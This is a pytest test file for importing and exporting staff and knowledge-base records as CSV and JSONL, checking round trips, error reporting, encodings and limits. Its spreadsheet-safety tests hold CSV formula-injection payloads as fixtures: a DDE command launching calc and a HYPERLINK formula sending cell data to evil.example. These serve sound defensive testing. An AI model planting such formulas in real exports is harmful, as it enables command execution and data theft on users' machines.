"""Import and export of people and knowledge: round trips, idempotency, bad rows, progress."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import create_engine, func, select, text
from sqlalchemy.engine import make_url

from bot.data.transfer import (
    BATCH,
    export_knowledge,
    export_people,
    guard_cell,
    import_knowledge,
    import_people,
    unguard_cell,
)
from bot.db import Database, open_database
from bot.db.models import (
    AuditEntry,
    Identity,
    KnowledgeEntry,
    Person,
    Role,
    Skill,
    SkillSource,
    Tag,
    TagAlias,
    Team,
)
from bot.db.models import KnowledgeAuthor as Author
from bot.db.models import KnowledgeTag as EntryTag
from bot.services import Services
from bot.services.expertise import MAX_SKILLS
from bot.services.knowledge import MAX_BODY_CHARS
from tests.conftest import NOW

ROOT = Path(__file__).resolve().parents[2]
# The columns before e-mails and accounts: files written then still import.
HEADER = "id,name,team,timezone,skills,role,hours,verified\n"
ACCOUNTS_HEADER = HEADER.replace("\n", ",email,slack,teams\n")
# Ids, e-mails and account ids in the case they were given: exports give them back so.
PEOPLE_CSV = (
    ACCOUNTS_HEADER + "ana,Ana Souza,Billing,America/Sao_Paulo,refunds:5;Prepaid Top-up:3,lead,"
    "08:00-16:00,refunds,Ana.Souza@Example.com,U0012;W0034,\n"
    'ben,"Ben ""Benny"" Okafor",Tech,Africa/Lagos,roaming:2,agent,22:00-06:00,,'
    "ben@example.com,,3F2A9C1E-0B7D-4E44-9A51-6C2D8E0F1A2B\n"
    "Chen.W,Chen Wei,,Asia/Shanghai,,admin,09:00-17:00,,,,\n"
)
# What any database holding PEOPLE_CSV exports: by id, skills normalised and by tag name.
PEOPLE_EXPORT = PEOPLE_CSV.replace("refunds:5;Prepaid Top-up:3", "prepaid top-up:3;refunds:5")
# fmt: off
PEOPLE_JSONL = [
    {"id": "dana", "name": "Dana Levi", "team": "Retention", "timezone": "Asia/Jerusalem",
     "role": "lead", "hours": "07:30-15:30",
     "skills": [{"tag": "roaming", "level": 4, "verified": True},
                {"tag": "contract cancellation", "level": 2, "verified": False}]},
    {"id": "eli", "name": "Eli Moreau", "team": "", "timezone": "Europe/Paris",
     "role": "agent", "hours": "09:00-17:00", "skills": []},
]
# fmt: on
TRICKY = "Ping <!channel> 🚀 then write العربية and עברית\x00 as they are 👩🏽‍💻"
KNOWLEDGE = [
    {"title": "Roaming refunds", "body": "Refund unused days.", "tags": ["roaming"], "authors": []},
    {"title": f"Notes {TRICKY}", "body": f"Body\x00 {TRICKY}", "tags": [], "authors": ["ana"]},
]


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8", newline="")
    return path


def jsonl(rows: list[Any]) -> str:
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)


def export_to(db: Database, path: Path, kind: str, fmt: str = "csv") -> bytes:
    """Export as the CLI does (UTF-8, no newline translation) and return the file's bytes."""
    with path.open("w", encoding="utf-8", newline="") as out, db.unit_of_work() as session:
        if kind == "people":
            export_people(session, out, fmt)
        else:
            export_knowledge(session, out)
    return path.read_bytes()


def count(db: Database, model: type) -> int:
    with db.unit_of_work() as session:
        return session.scalar(select(func.count()).select_from(model)) or 0


def keys(db: Database) -> list[str]:
    with db.unit_of_work() as session:
        return list(session.scalars(select(Person.key).order_by(Person.key)))


@pytest.fixture
def other_db(tmp_path: Path) -> Iterator[Database]:
    database = open_database(f"sqlite:///{tmp_path / 'b.db'}")
    yield database
    database.dispose()


def test_people_csv_round_trip_exports_identical_bytes_with_every_field(
    services: Services, other_db: Database, tmp_path: Path
) -> None:
    assert import_people(services.db, write(tmp_path / "in.csv", PEOPLE_CSV), NOW).ok
    first = export_to(services.db, tmp_path / "first.csv", "people")
    assert import_people(other_db, tmp_path / "first.csv", NOW).ok
    second = export_to(other_db, tmp_path / "second.csv", "people")
    assert first == second
    assert first.decode() == PEOPLE_EXPORT


def test_people_jsonl_round_trip_exports_identical_bytes_with_every_field(
    services: Services, other_db: Database, tmp_path: Path
) -> None:
    source = write(tmp_path / "in.jsonl", jsonl(PEOPLE_JSONL))
    assert import_people(services.db, source, NOW).ok
    first = export_to(services.db, tmp_path / "first.jsonl", "people", "jsonl")
    assert import_people(other_db, tmp_path / "first.jsonl", NOW).ok
    assert export_to(other_db, tmp_path / "second.jsonl", "people", "jsonl") == first
    exported = [json.loads(line) for line in first.decode().splitlines()]
    expected = [
        dict(row, skills=sorted(row["skills"], key=lambda s: s["tag"])) for row in PEOPLE_JSONL
    ]
    assert exported == expected


def test_knowledge_round_trip_keeps_unicode_and_mentions_and_drops_nul(
    services: Services, other_db: Database, tmp_path: Path
) -> None:
    source = write(tmp_path / "people.csv", PEOPLE_CSV)
    assert import_people(services.db, source, NOW).ok
    assert import_people(other_db, source, NOW).ok
    kb = write(tmp_path / "kb.jsonl", jsonl(KNOWLEDGE))
    assert import_knowledge(services.db, kb).created == 2
    first = export_to(services.db, tmp_path / "first.jsonl", "kb")
    assert import_knowledge(other_db, tmp_path / "first.jsonl").created == 2
    assert export_to(other_db, tmp_path / "second.jsonl", "kb") == first
    exported = [json.loads(line) for line in first.decode().splitlines()]
    assert exported == json.loads(json.dumps(KNOWLEDGE).replace("\\u0000", ""))
    assert "<!channel> 🚀 then write العربية and עברית as they are 👩🏽‍💻" in exported[1]["body"]


def test_importing_the_same_files_twice_updates_without_duplicates(
    services: Services, tmp_path: Path
) -> None:
    people = write(tmp_path / "people.csv", PEOPLE_CSV)
    kb = write(tmp_path / "kb.jsonl", jsonl(KNOWLEDGE))
    first = (import_people(services.db, people, NOW), import_knowledge(services.db, kb))
    tables = (Person, Skill, Tag, Identity, KnowledgeEntry, EntryTag, Author)
    counts = [count(services.db, table) for table in tables]
    second = (import_people(services.db, people, NOW), import_knowledge(services.db, kb))
    assert [(r.created, r.updated) for r in first + second] == [(3, 0), (2, 0), (0, 3), (0, 2)]
    assert counts == [3, 3, 3, 6, 2, 1, 1]  # identities: 3 console, 3 Slack and Teams
    assert [count(services.db, table) for table in tables] == counts


def test_bad_csv_rows_are_reported_at_their_physical_line_and_good_rows_land(
    services: Services, tmp_path: Path
) -> None:
    text = (
        HEADER
        + "ana,Ana,,Europe/London,refunds:4,agent,,\n"  # line 2
        + "bob,Bob,,Mars/Olympus,,,,\n"  # 3
        + "cat,Cat,,UTC,refunds:9,,,\n"  # 4
        + ",Nobody,,UTC,,,,\n"  # 5
        + "dan,Dan,,UTC,refunds,agent,,,extra\n"  # 6
        + 'eve,"Eve\nMarie",,UTC,,,,\n'  # 7-8: the record ends on line 8
        + "fay,Fay,,UTC,,,,\n"  # 9
    )
    report = import_people(services.db, write(tmp_path / "bad.csv", text), NOW)
    assert report.errors == [
        (3, "unknown time zone 'Mars/Olympus' (use an IANA name like Europe/London)"),
        (4, "skill 'refunds:9': '9' is not a level (use 1 to 5)"),
        (5, "'id' is empty"),
        (6, "more values than columns (is a comma unquoted?)"),
    ]
    assert report.created == 3
    assert keys(services.db) == ["ana", "eve", "fay"]
    assert "line 4: skill 'refunds:9'" in report.summary()
    with services.db.unit_of_work() as session:
        # The record spans two lines; a name is one (whitespace as it reads: one space).
        assert session.scalar(select(Person.display_name).where(Person.key == "eve")) == "Eve Marie"


def test_bad_jsonl_lines_are_reported_and_good_lines_land(
    services: Services, tmp_path: Path
) -> None:
    lines = [
        json.dumps({"id": "ana", "name": "Ana"}),
        '{"id": "bob", "name": ',
        '["not", "an", "object"]',
        json.dumps({"id": "cat", "name": "Cat", "skills": [{"tag": "refunds", "level": "high"}]}),
        "",
        json.dumps({"id": "dan", "name": "Dan", "skills": [{"tag": "refunds", "level": 2}]}),
    ]
    report = import_people(services.db, write(tmp_path / "bad.jsonl", "\n".join(lines)), NOW)
    assert report.errors == [
        (2, "not valid JSON (Expecting value)"),
        (3, "expected a JSON object"),
        (4, "skill 'refunds': level must be a whole number from 1 to 5"),
    ]
    assert report.created == 2
    assert keys(services.db) == ["ana", "dan"]


def test_a_csv_header_without_id_is_reported_at_line_one_and_imports_nothing(
    services: Services, tmp_path: Path
) -> None:
    source = write(tmp_path / "noid.csv", "name,team\nAna,Billing\nBob,Tech\n")
    report = import_people(services.db, source, NOW)
    assert report.errors == [(1, "the header needs the columns id")]
    assert (report.created, report.updated) == (0, 0)
    assert count(services.db, Person) == 0


def test_an_import_is_audited_once_with_its_counts(services: Services, tmp_path: Path) -> None:
    source = write(tmp_path / "team.csv", PEOPLE_CSV + "zed,Zed,,Nowhere/City,,,,\n")
    import_people(services.db, source, NOW)
    with services.db.unit_of_work() as session:
        rows = session.scalars(select(AuditEntry).where(AuditEntry.action == "import.people"))
        audited = [(row.actor_label, row.target, json.loads(row.detail)) for row in rows]
    assert audited == [("import", "file:team.csv", {"created": 3, "updated": 0, "failed": 1})]


def test_knowledge_by_an_unknown_author_is_reported_for_that_row(
    services: Services, tmp_path: Path
) -> None:
    import_people(services.db, write(tmp_path / "people.csv", PEOPLE_CSV), NOW)
    rows = [*KNOWLEDGE, {"title": "Ghost", "body": "Boo", "tags": [], "authors": ["ana", "ghost"]}]
    report = import_knowledge(services.db, write(tmp_path / "kb.jsonl", jsonl(rows)))
    assert report.errors == [(3, "unknown author 'ghost' (import people first)")]
    assert report.created == 2
    assert count(services.db, KnowledgeEntry) == 2


def test_a_large_import_reports_progress_and_commits_once_at_the_end(
    services: Services, tmp_path: Path
) -> None:
    people = 1_200
    assert 1 < BATCH < people, "the file must span several batches"
    rows = [f"p{n:04d},Person {n},Team {n % 7},UTC,refunds:{n % 5 + 1}\n" for n in range(people)]
    source = write(tmp_path / "big.csv", "id,name,team,timezone,skills\n" + "".join(rows))
    total_lines = people + 1
    # A plain engine of its own sees only what the import has committed so far: nothing,
    # however many batches are written, until the whole file is in.
    watcher = create_engine(services.db.url)
    checkpoints = {2, BATCH + 2, 2 * BATCH + 2, total_lines}
    calls: list[tuple[int, int]] = []
    committed: dict[int, int] = {}

    def progress(done: int, total: int) -> None:
        calls.append((done, total))
        if done in checkpoints:
            with watcher.connect() as connection:
                committed[done] = connection.scalar(select(func.count(Person.id))) or 0

    try:
        report = import_people(services.db, source, NOW, progress)
    finally:
        watcher.dispose()
    done = [d for d, _ in calls]
    assert done == sorted(set(done)) and done[-1] == total_lines
    assert {total for _, total in calls} == {total_lines}
    assert committed == dict.fromkeys(checkpoints, 0)
    assert report.created == people and count(services.db, Person) == people


# ---------------------------------------------------------------- bad tag input


def test_a_skill_tag_too_long_for_the_tag_table_is_a_row_error(
    services: Services, tmp_path: Path
) -> None:
    text = HEADER + "ana,Ana,,,refunds,,,\n" + f"bob,Bob,,,{'x' * 130}:3,,,\n" + "cat,Cat,,,,,,\n"
    report = import_people(services.db, write(tmp_path / "long.csv", text), NOW)
    assert [line for line, _ in report.errors] == [3]
    assert keys(services.db) == ["ana", "cat"]


def test_nul_in_tag_names_is_dropped_like_in_all_other_text(
    services: Services, tmp_path: Path
) -> None:
    people = write(tmp_path / "p.csv", HEADER + "ana,Ana,,,ref\x00unds:2,,,\n")
    assert import_people(services.db, people, NOW).ok
    kb = [{"title": "T", "body": "B", "tags": ["roa\x00ming"], "authors": ["ana"]}]
    assert import_knowledge(services.db, write(tmp_path / "kb.jsonl", jsonl(kb))).ok
    with services.db.unit_of_work() as session:
        assert sorted(session.scalars(select(Tag.name))) == ["refunds", "roaming"]


def test_knowledge_tags_that_are_not_a_list_are_a_row_error(
    services: Services, tmp_path: Path
) -> None:
    rows = [{"title": "Bad", "body": "B", "tags": 5}, {"title": "Good", "body": "G"}]
    report = import_knowledge(services.db, write(tmp_path / "kb.jsonl", jsonl(rows)))
    assert report.errors == [(1, "'tags' must be a list of tag names")]
    assert count(services.db, KnowledgeEntry) == 1


def test_a_tag_named_twice_in_one_row_keeps_the_last_level(
    services: Services, tmp_path: Path
) -> None:
    text = HEADER + 'ana,Ana,,,"refunds:2;billing:3;refunds:4",,,\n'
    report = import_people(services.db, write(tmp_path / "twice.csv", text), NOW)
    assert report.ok and report.created == 1
    with services.db.reading() as session:
        levels = session.execute(select(Tag.name, Skill.level).join(Skill.tag)).all()
    assert sorted(levels) == [("billing", 3), ("refunds", 4)]


def test_rows_of_one_batch_share_teams_and_tags_as_if_written_one_by_one(
    services: Services, tmp_path: Path
) -> None:
    """Within a batch nothing is written until its end: a team written in two casings,
    a tag by its alias and a new tag named by two people all resolve as they would
    row by row."""
    with services.db.unit_of_work() as session:
        tag = Tag(name="refunds")
        session.add(tag)
        session.flush()
        session.add(TagAlias(alias="money back", tag_id=tag.id))
    text = (
        HEADER
        + "ana,Ana,Billing,,money back:2;esim:1,,,\n"
        + "ben,Ben,BILLING,,esim:4,,,\n"
        + "cy,Cy Souza,billing,,refunds:5;roaming:3,,,refunds\n"
    )
    report = import_people(services.db, write(tmp_path / "batch.csv", text), NOW)
    assert report.ok and (report.created, report.updated) == (3, 0)
    with services.db.reading() as session:
        held = session.execute(
            select(Person.key, Tag.name, Skill.level, Skill.verified_at.is_not(None))
            .join(Skill.person)
            .join(Skill.tag)
            .order_by(Person.key, Tag.name)
        ).all()
        teams = session.execute(
            select(Team.name, func.count(Person.id)).join(Person.team).group_by(Team.name)
        ).all()
        consoles = session.execute(
            select(Identity.external_id, Person.key)
            .join(Identity.person)
            .where(Identity.platform == "console")
        ).all()
    assert held == [
        ("ana", "esim", 1, False),
        ("ana", "refunds", 2, False),  # "money back" is refunds
        ("ben", "esim", 4, False),
        ("cy", "refunds", 5, True),
        ("cy", "roaming", 3, False),
    ]
    assert teams == [("Billing", 3)]  # one team, as first written
    assert sorted(consoles) == [("ana", "ana"), ("ben", "ben"), ("cy", "cy")]
    assert count(services.db, Tag) == 3


# ---------------------------------------------------------------- a file lands whole


def audited_imports(db: Database) -> list[dict[str, Any]]:
    with db.reading() as session:
        rows = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "import.people").order_by(AuditEntry.id)
        )
        return [json.loads(row.detail) for row in rows]


def good_rows(count_: int, start: int = 0) -> str:
    return "".join(f"p{n:04d},Person {n},Billing,UTC,refunds:3,,,\n" for n in range(start, count_))


def test_a_file_wholly_in_latin1_is_read_as_such_and_says_so(
    services: Services, tmp_path: Path
) -> None:
    """1,200 ASCII rows and one row in Latin-1 (what Excel on Windows saves as "CSV"):
    the one encoding the file can be in."""
    text = HEADER + good_rows(700) + "jose,José Núñez,Billing,UTC,,,,\n" + good_rows(1_200, 700)
    source = tmp_path / "latin1.csv"
    source.write_bytes(text.encode("cp1252"))
    report = import_people(services.db, source, NOW)
    assert report.ok and report.created == 1_201
    assert report.summary() == "1201 created, 0 updated, 0 failed (read as Windows-1252 " + (
        "(Latin-1): the file is not UTF-8)"
    )
    with services.db.reading() as session:
        assert session.scalar(select(Person.display_name).where(Person.key == "jose")) == (
            "José Núñez"
        )


def test_a_utf8_file_with_one_latin1_row_imports_nothing_and_names_that_line(
    services: Services, tmp_path: Path
) -> None:
    rows = HEADER + "zoe,Zoë Martin,Billing,UTC,,,,\n" + good_rows(1_200)
    data = rows.encode() + "jose,José,Billing,UTC,,,,\n".encode("latin-1") + b"last,Last,,,,,,\n"
    source = tmp_path / "mixed.csv"
    source.write_bytes(data)
    report = import_people(services.db, source, NOW)
    assert not report.written and (report.created, report.updated) == (0, 0)
    assert report.errors == [
        (
            1_203,
            "not UTF-8 (byte 0xE9), though other lines are: save the file as UTF-8 "
            "(in Excel: CSV UTF-8) and import it again",
        )
    ]
    assert report.summary().splitlines()[0] == (
        "nothing imported: fix what is below and import the file again"
    )
    assert count(services.db, Person) == 0
    assert audited_imports(services.db) == [
        {
            "created": 0,
            "updated": 0,
            "failed": 1,
            "imported": False,
            "error": "line 1203: " + report.errors[0][1],
        }
    ]


@pytest.mark.parametrize("separator", [",", "\t"])
def test_a_utf16_file_with_a_bom_is_read_with_commas_or_tabs(
    services: Services, tmp_path: Path, separator: str
) -> None:
    """Excel's "Unicode text" is UTF-16 with tabs between the values."""
    text = "id,name,team\nzoe,Zoë Martin,Billing\nli,李小龍,Tech\n".replace(",", separator)
    source = tmp_path / "unicode.csv"
    source.write_bytes(text.encode("utf-16"))  # with its byte-order mark
    report = import_people(services.db, source, NOW)
    assert report.ok and report.created == 2 and report.encoding == "UTF-16"
    with services.db.reading() as session:
        names = dict(session.execute(select(Person.key, Person.display_name)).all())
    assert names == {"zoe": "Zoë Martin", "li": "李小龍"}


def test_a_value_over_the_csv_limit_imports_nothing_and_says_where(
    services: Services, tmp_path: Path
) -> None:
    huge = ";".join(f"tag{n}:3" for n in range(20_000))  # 160,000 characters
    text = HEADER + good_rows(10) + f"big,Big,,UTC,{huge},,,\n" + good_rows(20, 10)
    report = import_people(services.db, write(tmp_path / "huge.csv", text), NOW)
    assert not report.written
    assert report.errors == [(12, "a value is longer than 131,072 characters")]
    assert count(services.db, Person) == 0 and count(services.db, Tag) == 0


def test_a_file_cut_short_inside_a_quoted_value_imports_nothing(
    services: Services, tmp_path: Path
) -> None:
    text = HEADER + good_rows(600) + 'cut,"Cut Sho'  # the quote opened on line 602
    report = import_people(services.db, write(tmp_path / "cut.csv", text), NOW)
    assert not report.written
    assert report.errors == [
        (602, "a quoted value is not closed before the end of the file (is the file cut short?)")
    ]
    assert count(services.db, Person) == 0


def test_a_quote_in_the_middle_of_a_value_is_reported_not_guessed(
    services: Services, tmp_path: Path
) -> None:
    text = HEADER + 'ana,"Ana" Lima,,UTC,,,,\n'
    report = import_people(services.db, write(tmp_path / "quote.csv", text), NOW)
    assert not report.written and report.errors[0][0] == 2
    assert "quote the whole value" in report.errors[0][1]


def test_the_same_id_twice_in_one_file_is_reported_not_merged(
    services: Services, tmp_path: Path
) -> None:
    text = (
        HEADER
        + "dup,First Dup,Billing,UTC,refunds:4,,,\n"
        + "dup,Second Dup,Tech,UTC,roaming:2,,,\n"
        + "DUP,Third Dup,,UTC,,,,\n"
        + "other,Other,,UTC,,,,\n"
    )
    report = import_people(services.db, write(tmp_path / "dup.csv", text), NOW)
    said = "the id '{id}' is also on line 2 (ids are matched without case): one row a person"
    assert report.errors == [(3, said.format(id="dup")), (4, said.format(id="DUP"))]
    assert (report.created, report.updated) == (2, 0)
    with services.db.reading() as session:
        dup = session.scalar(select(Person).where(Person.key == "dup"))
        assert dup is not None and dup.display_name == "First Dup"
        assert [s.tag.name for s in dup.skills] == ["refunds"]
    rows = [{"id": "dup", "name": "A"}, {"id": "Dup", "name": "B"}]
    report = import_people(services.db, write(tmp_path / "dup.jsonl", jsonl(rows)), NOW)
    assert [line for line, _ in report.errors] == [2]


def _writing(db: Database, process: subprocess.Popen[bytes]) -> bool:
    """Whether the import in `process` has written into its open transaction."""
    if db.backend == "sqlite":
        wal = Path(str(make_url(db.url).database) + "-wal")
        return wal.exists() and wal.stat().st_size > 256 * 1024
    with db.engine.connect() as connection:
        return bool(
            connection.scalar(
                text(
                    "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
                    " AND pid <> pg_backend_pid() AND backend_xid IS NOT NULL"
                )
            )
        )


def test_an_import_killed_part_way_leaves_nothing_and_runs_again_whole(
    services: Services, tmp_path: Path
) -> None:
    people = 16_000
    source = write(tmp_path / "big.csv", HEADER + good_rows(people))
    program = "import sys\nfrom adapters.cli import main\nraise SystemExit(main(sys.argv[1:]))"
    argv = [sys.executable, "-c", program, "--db", services.db.url]
    importing = subprocess.Popen(
        [*argv, "import", "people", str(source)], cwd=ROOT, stdout=subprocess.DEVNULL
    )
    try:
        deadline = time.monotonic() + 60
        while not _writing(services.db, importing) and time.monotonic() < deadline:
            assert importing.poll() is None, "the import ended before it could be killed"
            time.sleep(0.05)
        time.sleep(3)  # several batches more (each committed, were batches committed)
        assert importing.poll() is None, "the import ended before it could be killed"
    finally:
        importing.kill()  # SIGKILL: no handler, no rollback of its own
        importing.wait()
    assert count(services.db, Person) == 0 and count(services.db, Skill) == 0
    assert audited_imports(services.db) == []
    report = import_people(services.db, source, NOW)
    assert report.ok and report.created == people and count(services.db, Person) == people
    assert audited_imports(services.db) == [{"created": people, "updated": 0, "failed": 0}]


# ---------------------------------------------------------------- spreadsheet-safe exports

# Names, teams and tags a spreadsheet would run as formulas (OWASP's CSV injection),
# as a Slack profile could bring them, and ones that already start with a '.
HOSTILE = [
    ("calc", "=cmd|' /C calc'!A0", "=1+2", "+44 20 7946 0000"),
    ("link", '=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(A1)", "-minus"),
    ("quoted", "'=already quoted", "'plain", "'@at"),
]


def test_exports_neutralise_formulas_and_the_round_trip_stays_lossless(
    services: Services, other_db: Database, tmp_path: Path
) -> None:
    with services.db.unit_of_work() as session:
        for key, name, team, tag in HOSTILE:
            person = Person(key=key, display_name=name, team=Team(name=team), role=Role.AGENT)
            person.skills.append(Skill(tag=Tag(name=tag), level=3, source=SkillSource.IMPORT))
            session.add(person)
    first = export_to(services.db, tmp_path / "first.csv", "people")
    exported = {cells[0]: cells for cells in list(csv.reader(io.StringIO(first.decode())))[1:]}
    for cells in exported.values():
        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells), cells
    assert exported["calc"][1:3] == ["'=cmd|' /C calc'!A0", "'=1+2"]
    assert exported["calc"][4] == "'+44 20 7946 0000:3"
    assert exported["quoted"][1:3] == ["''=already quoted", "'plain"]
    # The importer takes the guard off again: the same people, the same bytes.
    assert import_people(other_db, tmp_path / "first.csv", NOW).ok
    assert export_to(other_db, tmp_path / "second.csv", "people") == first
    with other_db.reading() as session:
        named = session.execute(
            select(Person.key, Person.display_name, Team.name, Tag.name)
            .join(Person.team)
            .join(Person.skills)
            .join(Skill.tag)
            .order_by(Person.key)
        ).all()
    assert [tuple(row) for row in named] == sorted(HOSTILE)


@pytest.mark.parametrize(
    "value", ["=x", "+x", "-x", "@x", "\tx", "\rx", "'=x", "''-x", "'x", "'", "x"]
)
def test_every_guarded_cell_comes_back_as_it_was(value: str) -> None:
    guarded = guard_cell(value)
    assert guarded[:1] not in {"=", "+", "-", "@", "\t", "\r"}
    assert unguard_cell(guarded) == value


# ---------------------------------------------------------------- names and caps


def test_tags_and_names_lose_invisible_and_direction_characters_ids_refuse_them(
    services: Services, tmp_path: Path
) -> None:
    """A tag or a name is read as it looks; an id is NFKC too, but one holding an invisible
    character is refused (the id a check looks up is the id written, never a cleaned one)."""
    text_ = (
        HEADER
        + "maria,Maria \u202eSantos\u202c,,UTC,refunds:4;re\u200bfunds:4,,,\n"
        + "ｂｅｎ,Ｂｅｎ Okafor,,UTC,,,,\n"  # full-width letters
        + "cy,Cy,,UTC,\ufeffroaming:2,,,\n"
        + "dee,Dee,,UTC,\u200b:2,,,\n"  # a tag of nothing visible
        + "e\u200bd,Ed,,UTC,,,,\n"
    )
    report = import_people(services.db, write(tmp_path / "names.csv", text_), NOW)
    assert report.errors == [
        (5, "skill '\u200b:2': the tag name is empty"),
        (6, "'id' holds a control or invisible character (U+200B, character 2): remove it"),
    ]
    with services.db.reading() as session:
        people_ = dict(session.execute(select(Person.key, Person.display_name)).all())
        tags = sorted(session.scalars(select(Tag.name)))
        skills = session.scalar(select(func.count()).select_from(Skill))
    assert people_ == {"maria": "Maria Santos", "ben": "Ben Okafor", "cy": "Cy"}
    assert tags == ["refunds", "roaming"] and skills == 2


def test_one_row_or_one_person_holds_at_most_the_skill_limit(
    services: Services, tmp_path: Path
) -> None:
    many = ";".join(f"topic {n}:3" for n in range(MAX_SKILLS + 1))
    enough = ";".join(f"topic {n}:3" for n in range(MAX_SKILLS - 2))
    text_ = HEADER + f"ana,Ana,,UTC,{many},,,\n" + f"ben,Ben,,UTC,{enough},,,\n"
    report = import_people(services.db, write(tmp_path / "many.csv", text_), NOW)
    assert report.errors == [(2, f"{MAX_SKILLS + 1} skills: at most {MAX_SKILLS} a person")]
    more = HEADER + "ben,Ben,,UTC,more 1:2;more 2:2;more 3:2;topic 1:5,,,\n"
    report = import_people(services.db, write(tmp_path / "more.csv", more), NOW)
    assert report.errors == [
        (
            2,
            f"'ben' would hold {MAX_SKILLS + 1} skills with these, at most {MAX_SKILLS}: "
            "untag some first",
        )
    ]
    fits = HEADER + "ben,Ben,,UTC,more 1:2;more 2:2;topic 1:5,,,\n"
    assert import_people(services.db, write(tmp_path / "fits.csv", fits), NOW).ok
    with services.db.reading() as session:
        assert session.scalar(select(func.count()).select_from(Skill)) == MAX_SKILLS


def test_a_knowledge_body_over_the_limit_is_a_row_error_and_one_at_it_lands(
    services: Services, tmp_path: Path
) -> None:
    rows = [
        {"title": "At the limit", "body": "x" * MAX_BODY_CHARS},
        {"title": "Over it", "body": "x" * (MAX_BODY_CHARS + 1)},
    ]
    report = import_knowledge(services.db, write(tmp_path / "kb.jsonl", jsonl(rows)))
    assert report.errors == [(2, f"'body' is longer than {MAX_BODY_CHARS} characters")]
    assert count(services.db, KnowledgeEntry) == 1
